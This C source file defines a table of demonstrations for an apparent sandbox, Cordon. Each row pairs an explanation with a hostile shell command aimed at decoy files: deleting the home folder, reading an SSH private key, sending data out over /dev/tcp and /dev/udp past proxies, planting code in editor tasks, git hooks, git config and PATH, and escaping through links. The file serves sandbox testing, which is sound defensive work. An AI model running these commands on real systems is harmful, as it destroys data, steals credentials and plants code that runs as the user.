/*
 * demo_table: the violations that are played, one row each.
 *
 * What a command would leave behind where it is not refused is a word in a decoy, which nobody runs.
 */
#include "demo_parts.h"

static const struct demo demos_table[] = {
    {.name = "delete-home",
        .title = "delete the home folder",
        .words = "A script with a wrong variable, or an agent that tidies up, deletes your home\n"
                 "folder: documents, keys, and what no backup has yet.",
        .command = "rm -rf ~",
        .victim = "home/documents/thesis.txt",
        .sign = SIGN_GONE,
        .operation = OPERATION_DELETE,
        .unharmed = "the home folder and all in it"},
    {.name = "read-key",
        .title = "read an SSH key",
        .words = "A package that you only wanted to build reads your private key. Whoever has it\n"
                 "is you on every machine that trusts it.",
        .command = "cat ~/.ssh/id_ed25519",
        .victim = "home/.ssh/id_ed25519",
        .sign = SIGN_SEEN,
        .operation = OPERATION_READ,
        .unharmed = "the key: not a byte of it was seen"},
    {.name = "call-out",
        .title = "call out",
        .words = "What a program has read it sends away. A listener that Cordon opened outside,\n"
                 "on loopback, stands for the rest of the world.",
        .command = "echo stolen > /dev/tcp/127.0.0.1/$PORT",
        .sign = SIGN_CALLED,
        .operation = OPERATION_CONNECT,
        .unharmed = "nobody connected to the listener"},
    {.name = "raw-socket",
        .title = "straight out, past the proxies",
        .words = "Proxy variables hold only what asks for them. This sends a datagram and opens a\n"
                 "connection (UDP and TCP) by sockets of its own, and asks nobody.",
        .command = "unset http_proxy https_proxy ALL_PROXY\n"
                   "echo stolen > /dev/udp/127.0.0.1/$PORT\n"
                   "echo stolen > /dev/tcp/127.0.0.1/$PORT",
        .sign = SIGN_CALLED,
        .operation = OPERATION_CONNECT,
        .unharmed = "neither connection nor datagram arrived"},
    {.name = "protected-config",
        .title = "write protected configuration",
        .words = "Your editor runs the tasks that it finds in a project. Planted from inside, this\n"
                 "one would run outside, as you, when you open the folder.",
        .command = "echo '{\"command\": \"evil\"}' >> .vscode/tasks.json",
        .allowed = "echo '{\"command\": \"evil\"}' >> plain/tasks.json",
        .victim = "work/.vscode/tasks.json",
        .other = "work/plain/tasks.json",
        .sign = SIGN_CHANGED,
        .operation = OPERATION_WRITE,
        .unharmed = "the editor's tasks"},
    {.name = "git-hook",
        .title = "run code through a git hook",
        .words = "Git runs hooks: your next commit, outside, would run what was planted here. That\n"
                 "a commit works inside must not mean that this does.",
        .command = "echo evil >> .git/hooks/pre-commit",
        .allowed = "echo evil >> plain/hooks/pre-commit",
        .victim = "work/.git/hooks/pre-commit",
        .other = "work/plain/hooks/pre-commit",
        .sign = SIGN_CHANGED,
        .operation = OPERATION_WRITE,
        .unharmed = "the hooks of the repository"},
    {.name = "git-config",
        .title = "run code through git's configuration",
        .words = "Git's configuration names programs (fsmonitor, pager, filters) that even\n"
                 "git status runs. Whoever writes it runs outside when you next ask git anything.",
        .command = "echo '[core] fsmonitor = evil' >> .git/config",
        .allowed = "echo '[core] fsmonitor = evil' >> plain/config",
        .victim = "work/.git/config",
        .other = "work/plain/config",
        .sign = SIGN_CHANGED,
        .operation = OPERATION_WRITE,
        .unharmed = "the repository's configuration"},
    {.name = "path-program",
        .title = "replace a program in PATH",
        .words = "A folder of your PATH is where a program can lie in wait: the next time that\n"
                 "you type its name, in any terminal, it runs as you.",
        .command = "echo evil > ~/bin/ls",
        .victim = "home/bin/ls",
        .sign = SIGN_CHANGED,
        .operation = OPERATION_WRITE,
        .unharmed = "the program is the one it was"},
    {.name = "symbolic-link",
        .title = "escape through a symbolic link",
        .words = "A link in the workspace, where writing is allowed, leads outside. What counts\n"
                 "must be where it leads, not what it is called.",
        .command = "ln -sf ~/documents/diary.txt way && echo evil >> way",
        .victim = "home/documents/diary.txt",
        .sign = SIGN_CHANGED,
        .operation = OPERATION_WRITE,
        .unharmed = "the file that the link leads to"},
    {.name = "hard-link",
        .title = "escape through a hard link",
        .words = "A second name in the workspace for a file outside: the same file by a path that\n"
                 "may be written.",
        .command = "ln -f ~/documents/letter.txt name && echo evil >> name",
        .victim = "home/documents/letter.txt",
        .sign = SIGN_CHANGED,
        .operation = OPERATION_LINK,
        .unharmed = "the file, which has one name as before"},
    {.name = "grandchild",
        .title = "a grandchild doing each of these",
        .words = "A rule that holds for one process alone is none: programs start programs. Each\n"
                 "of the others again, by a child of a child of a child, on decoys of its own.",
        .command = "bash -c 'bash -c \"bash -c ...\"'",
        .sign = SIGN_EACH,
        .operation = OPERATION_WRITE,
        .unharmed = "all of the decoys"},
};

const struct demo *demos_list(size_t *count)
{
    *count = COUNT_OF(demos_table);
    return demos_table;
}
